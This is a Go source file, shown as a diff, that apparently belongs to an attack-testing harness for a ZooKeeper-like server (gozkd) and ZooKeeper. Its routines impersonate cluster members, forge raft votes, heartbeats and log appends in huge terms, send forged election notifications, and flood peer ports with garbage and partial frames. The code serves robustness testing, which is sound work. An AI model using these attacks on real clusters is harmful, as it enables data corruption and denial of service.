@@ -1,0 +1,387 @@
+package main
+
+import (
+	"encoding/binary"
+	"fmt"
+	"hash/crc32"
+	"io"
+	"math/rand/v2"
+	"net"
+	"slices"
+	"time"
+)
+
+// peerAttacks use the ports for the other members. The formats are those of gozkd
+// (docs/reference/formats.md). ZooKeeper gets the counterpart in its own format, if there is one,
+// and otherwise the same bytes, which are garbage to it.
+func peerAttacks() []*attack {
+	list := []*attack{
+		{name: "peer-garbage", what: "random bytes, and random frames after a hello, on all ports for members", run: peerGarbage},
+		{name: "peer-forward", what: "forwarded requests that are no requests, under each member's id", run: peerFrames(forwardFrames)},
+		{name: "peer-commit", what: "heartbeats of raft that commit entry 2^40, under each member's id", run: peerFrames(commitFrames)},
+		{name: "peer-vote", what: "requests for a vote in term 2^64-1; for ZooKeeper notifications of an election in epoch 2^63-1", run: peerVote},
+		{name: "peer-append", what: "appends of raft that replace the log from its first entry, under each member's id", run: peerFrames(appendFrames)},
+		{name: "peer-hello", what: "hellos under each member's id, as fast as possible", run: peerHello},
+		{name: "peer-partial", what: "1,500 partial hellos, and frames of 300 MB of which 2 MB come", run: peerPartial},
+	}
+	for _, a := range list {
+		a.ensemble = true
+	}
+	return list
+}
+
+// hello returns the first message on a connection between two members.
+func hello(from, to int, contents []byte) []byte {
+	b := append([]byte("gozkdNET"), 1, 0, 0, 0, 1, 0, 0, 0)
+	b = binary.LittleEndian.AppendUint64(b, uint64(from))
+	b = binary.LittleEndian.AppendUint64(b, uint64(to))
+	b = binary.LittleEndian.AppendUint32(b, uint32(len(contents)))
+	sum := crc32.Update(crc32.Checksum(b, castagnoli), castagnoli, contents)
+	return append(binary.LittleEndian.AppendUint32(b, sum), contents...)
+}
+
+var castagnoli = crc32.MakeTable(crc32.Castagnoli)
+
+// frame returns a frame between members.
+func frame(typ uint32, payload []byte) []byte {
+	b := binary.LittleEndian.AppendUint32(nil, uint32(len(payload)))
+	b = binary.LittleEndian.AppendUint32(b, typ)
+	sum := crc32.Update(crc32.Checksum(b, castagnoli), castagnoli, payload)
+	return append(binary.LittleEndian.AppendUint32(b, sum), payload...)
+}
+
+// uvarints returns the encoding of numbers.
+func uvarints(numbers ...uint64) (b []byte) {
+	for _, n := range numbers {
+		b = binary.AppendUvarint(b, n)
+	}
+	return b
+}
+
+// unknownEnsemble is the content of a hello of a member without state: the ensemble is not known,
+// and it supports every feature level.
+var unknownEnsemble = uvarints(0, 1, 100, 1, 0)
+
+// link is a connection to a member under another member's id.
+type link struct {
+	net.Conn
+	from, to int
+	theirs   []byte // the content of the member's hello; nil: it accepted nobody
+}
+
+// connectAs connects to a member under the id from. The contents of the hello are those that the
+// member itself tells, if it tells them to a member without state.
+func (a *attacker) connectAs(from, to int) (*link, error) {
+	theirs, conn, err := a.greet(from, to, unknownEnsemble)
+	if err == nil {
+		_ = conn.Close() // the next connection knows more
+		theirs, conn, err = a.greet(from, to, theirs)
+	}
+	if err != nil {
+		return nil, err
+	}
+	return &link{conn, from, to, theirs}, nil
+}
+
+// greet connects, sends a hello, and returns the content of the hello that accepts it.
+func (a *attacker) greet(from, to int, contents []byte) (theirs []byte, conn net.Conn, err error) {
+	nc, err := a.dial(a.Peers[to-1])
+	if err != nil {
+		return nil, nil, err
+	}
+	defer func() {
+		if err != nil {
+			_ = nc.Close() // the earlier error says more
+		}
+	}()
+	if err = nc.SetDeadline(time.Now().Add(2 * time.Second)); err != nil {
+		return nil, nil, err
+	}
+	if _, err = nc.Write(hello(from, to, contents)); err != nil {
+		return nil, nil, err
+	}
+	var head [40]byte
+	if _, err = io.ReadFull(nc, head[:]); err != nil {
+		return nil, nil, err
+	}
+	const accepted, maxHello = 3, 64 << 10
+	n := binary.LittleEndian.Uint32(head[32:])
+	if string(head[:8]) != "gozkdNET" || n > maxHello || binary.LittleEndian.Uint32(head[12:]) != accepted {
+		err = fmt.Errorf("member %d accepted no hello", to)
+		return nil, nil, err
+	}
+	theirs = make([]byte, n)
+	_, err = io.ReadFull(nc, theirs)
+	return theirs, nc, err
+}
+
+// pairs calls f for each ordered pair of members, one after the other.
+func (a *attacker) pairs(f func(from, to int)) {
+	for to := range a.Peers {
+		for from := range a.Peers {
+			if from != to {
+				f(from+1, to+1)
+			}
+		}
+	}
+}
+
+// peerFrames returns an attack that sends frames under every member's id to every other, over and
+// over. For ZooKeeper the frames follow a packet of a follower on the quorum port.
+func peerFrames(frames func(r *rand.Rand, l *link) [][]byte) func(a *attacker) {
+	return func(a *attacker) {
+		a.ready()
+		a.each(1, func(round int) {
+			r := rand.New(rand.NewPCG(uint64(round), 3))
+			a.pairs(func(from, to int) {
+				if a.Product == zooKeeper {
+					a.followerOfZooKeeper(from, to, frames(r, &link{from: from, to: to}))
+					return
+				}
+				l, err := a.connectAs(from, to)
+				if err != nil {
+					return
+				}
+				a.breach("accepted as a member")
+				for _, payload := range frames(r, l) {
+					if _, err := l.Write(frame(1, payload)); err != nil {
+						break
+					}
+				}
+				a.sleep(50 * time.Millisecond)
+				_ = l.Close() // whatever was sent is sent
+			})
+			a.sleep(200 * time.Millisecond)
+		})
+	}
+}
+
+// followerOfZooKeeper sends FOLLOWERINFO to a quorum port, and then the payloads.
+func (a *attacker) followerOfZooKeeper(from, to int, payloads [][]byte) {
+	nc, err := a.dial(a.Peers[to-1])
+	if err != nil {
+		return
+	}
+	defer func() { _ = nc.Close() }() // whatever was sent is sent
+	const followerInfo = 11
+	b := binary.BigEndian.AppendUint32(nil, followerInfo)
+	b = binary.BigEndian.AppendUint64(b, 1<<62) // zxid of an epoch far ahead
+	b = binary.BigEndian.AppendUint32(b, 20)
+	b = binary.BigEndian.AppendUint64(b, uint64(from))
+	b = binary.BigEndian.AppendUint32(b, 0x10000)
+	b = binary.BigEndian.AppendUint64(b, 0)
+	b = binary.BigEndian.AppendUint32(b, 0)
+	for _, p := range payloads {
+		b = append(b, p...)
+	}
+	if _, err := nc.Write(b); err == nil {
+		a.sleep(50 * time.Millisecond)
+	}
+}
+
+// Kinds of frames between members.
+const (
+	frameRaft    = 1
+	frameForward = 2
+)
+
+// raftMessage returns a message of raft: pairs of field number and value.
+func raftMessage(fields ...uint64) []byte {
+	b := []byte{frameRaft}
+	for i := 0; i < len(fields); i += 2 {
+		b = binary.AppendUvarint(binary.AppendUvarint(b, fields[i]<<3), fields[i+1])
+	}
+	return b
+}
+
+// Fields and types of raft's messages.
+const (
+	fieldType, fieldTo, fieldFrom, fieldTerm, fieldLogTerm, fieldIndex, fieldEntries, fieldCommit, fieldContext = 1, 2, 3, 4, 5, 6, 7, 8, 12
+
+	msgApp, msgVote, msgHeartbeat, msgTimeoutNow, msgPreVote = 3, 5, 8, 14, 17
+)
+
+// anyTerms are terms one of which is that of the ensemble or the next one.
+var anyTerms = []uint64{1, 2, 3, 4, 5, 6, 8, 10, 15, 20}
+
+func commitFrames(_ *rand.Rand, l *link) (payloads [][]byte) {
+	for _, term := range anyTerms {
+		payloads = append(payloads, raftMessage(fieldType, msgHeartbeat, fieldTo, uint64(l.to), fieldFrom, uint64(l.from), fieldTerm, term, fieldCommit, 1<<40))
+	}
+	return payloads
+}
+
+func appendFrames(_ *rand.Rand, l *link) (payloads [][]byte) {
+	for _, term := range anyTerms {
+		b := raftMessage(fieldType, msgApp, fieldTo, uint64(l.to), fieldFrom, uint64(l.from), fieldTerm, term, fieldLogTerm, 0, fieldIndex, 0, fieldCommit, 5)
+		for i := range uint64(5) {
+			entry := uvarints(2<<3, term, 3<<3, i+1, 4<<3|2, 7)
+			entry = append(entry, "garbage"...)
+			b = append(append(b, uvarints(fieldEntries<<3|2, uint64(len(entry)))...), entry...)
+		}
+		payloads = append(payloads, b)
+	}
+	return payloads
+}
+
+// forwardFrames continues the stream of the member, and begins new ones.
+func forwardFrames(r *rand.Rand, l *link) (payloads [][]byte) {
+	incarnation := uint64(1)
+	numbers := l.theirs
+	next := func() uint64 {
+		v, n := binary.Uvarint(numbers)
+		numbers = numbers[max(n, 0):]
+		return v
+	}
+	for range 5 {
+		next() // the ensemble and the levels
+	}
+	for range min(next(), 300) {
+		if server, inc := next(), next(); server == uint64(l.from) {
+			incarnation = inc
+		}
+	}
+	garbage := make([]byte, 40)
+	for i := range garbage {
+		garbage[i] = byte(r.Uint32())
+	}
+	for _, first := range []uint64{1, 2, 10, 100, 1000} {
+		for inc := incarnation; inc < incarnation+3; inc++ {
+			b := append([]byte{frameForward}, uvarints(uint64(l.from), inc, first, 2, 0, uint64(len(garbage)))...)
+			payloads = append(payloads, append(b, garbage...))
+		}
+	}
+	return payloads
+}
+
+func peerVote(a *attacker) {
+	if a.Product == zooKeeper {
+		zooKeeperElections(a)
+		return
+	}
+	const forced = "CampaignTransfer" // raft answers such a vote even if it has a leader
+	peerFrames(func(_ *rand.Rand, l *link) (payloads [][]byte) {
+		for _, typ := range []uint64{msgPreVote, msgVote, msgTimeoutNow, msgHeartbeat} {
+			b := raftMessage(fieldType, typ, fieldTo, uint64(l.to), fieldFrom, uint64(l.from), fieldTerm, 1<<64-1, fieldLogTerm, 1<<62, fieldIndex, 1<<62)
+			b = append(b, uvarints(fieldContext<<3|2, uint64(len(forced)))...)
+			payloads = append(payloads, append(b, forced...))
+		}
+		return payloads
+	})(a)
+}
+
+// zooKeeperElections tells each member in another's name that an election with a far greater epoch
+// runs.
+func zooKeeperElections(a *attacker) {
+	a.ready()
+	a.each(1, func(int) {
+		a.pairs(func(from, to int) {
+			nc, err := a.dial(a.Elections[to-1])
+			if err != nil {
+				return
+			}
+			defer func() { _ = nc.Close() }() // whatever was sent is sent
+			addr := "127.0.0.1:1"
+			b := binary.BigEndian.AppendUint64(nil, 0xffffffffffff0000) // the version of the protocol, -65536
+			b = binary.BigEndian.AppendUint64(b, uint64(from))
+			b = append(binary.BigEndian.AppendUint32(b, uint32(len(addr))), addr...)
+			n := binary.BigEndian.AppendUint32(nil, 0) // LOOKING
+			for _, v := range []uint64{uint64(from), 1<<63 - 1, 1<<63 - 1, 1<<63 - 1} {
+				n = binary.BigEndian.AppendUint64(n, v) // leader, zxid, epoch of the election, epoch
+			}
+			n = binary.BigEndian.AppendUint32(n, 2) // version
+			n = binary.BigEndian.AppendUint32(n, 0) // no configuration
+			b = append(binary.BigEndian.AppendUint32(b, uint32(len(n))), n...)
+			if _, err := nc.Write(b); err == nil {
+				a.sleep(50 * time.Millisecond)
+			}
+		})
+		a.sleep(200 * time.Millisecond)
+	})
+}
+
+func peerGarbage(a *attacker) {
+	a.ready()
+	ports := slices.Concat(a.Peers, a.Elections)
+	a.each(8, func(i int) {
+		r := rand.New(rand.NewPCG(uint64(i), 4))
+		for a.ctx.Err() == nil {
+			b := make([]byte, 1+r.IntN(4096))
+			for k := range b {
+				b[k] = byte(r.Uint32())
+			}
+			if i%2 == 0 && a.Product != zooKeeper {
+				to := 1 + r.IntN(len(a.Peers))
+				if l, err := a.connectAs(1+to%len(a.Peers), to); err == nil {
+					a.breach("accepted as a member")
+					b[0] = byte(1 + r.IntN(7)) // a kind that exists
+					if _, err := l.Write(frame(1, b)); err == nil {
+						a.sleep(5 * time.Millisecond)
+					}
+					_ = l.Close() // whatever was sent is sent
+				}
+				a.pause()
+				continue
+			}
+			if nc, err := a.dial(ports[r.IntN(len(ports))]); err == nil {
+				_, _ = nc.Write(b) // the server may close the connection earlier
+				a.pause()
+				_ = nc.Close() // whatever was sent is sent
+			}
+		}
+	})
+}
+
+func peerHello(a *attacker) {
+	if a.Product == zooKeeper {
+		zooKeeperElections(a) // a notification under a member's id replaces its connection
+		return
+	}
+	a.ready()
+	type pair struct{ from, to int }
+	var all []pair
+	a.pairs(func(from, to int) { all = append(all, pair{from, to}) })
+	a.each(len(all), func(i int) {
+		for a.ctx.Err() == nil {
+			if l, err := a.connectAs(all[i].from, all[i].to); err == nil {
+				a.breach("accepted as a member")
+				_ = l.Close() // as intended
+			} else {
+				a.pause()
+			}
+		}
+	})
+}
+
+func peerPartial(a *attacker) {
+	a.ready()
+	a.each(1500, func(i int) {
+		to := 1 + i%len(a.Peers)
+		nc, err := a.dial(a.Peers[to-1])
+		if err != nil {
+			a.sleep(100 * time.Millisecond)
+			return
+		}
+		defer func() { _ = nc.Close() }() // whatever was sent is sent
+		h := hello(1+to%len(a.Peers), to, unknownEnsemble)
+		if _, err := nc.Write(h[:1+i%(len(h)-1)]); err == nil {
+			_, _ = nc.Read(make([]byte, 1)) // until the member closes the connection or the attack ends
+		}
+		a.sleep(100 * time.Millisecond)
+	})
+	if a.Product == zooKeeper {
+		return
+	}
+	large := append(binary.LittleEndian.AppendUint32(nil, 300<<20), 1, 0, 0, 0, 0, 0, 0, 0)
+	large = append(large, make([]byte, 2<<20)...)
+	a.each(6, func(i int) {
+		to := 1 + i%len(a.Peers)
+		if l, err := a.connectAs(1+to%len(a.Peers), to); err == nil {
+			a.breach("accepted as a member")
+			if _, err := l.Write(large); err == nil {
+				a.sleep(time.Second)
+			}
+			_ = l.Close() // whatever was sent is sent
+		}
+	})
+}
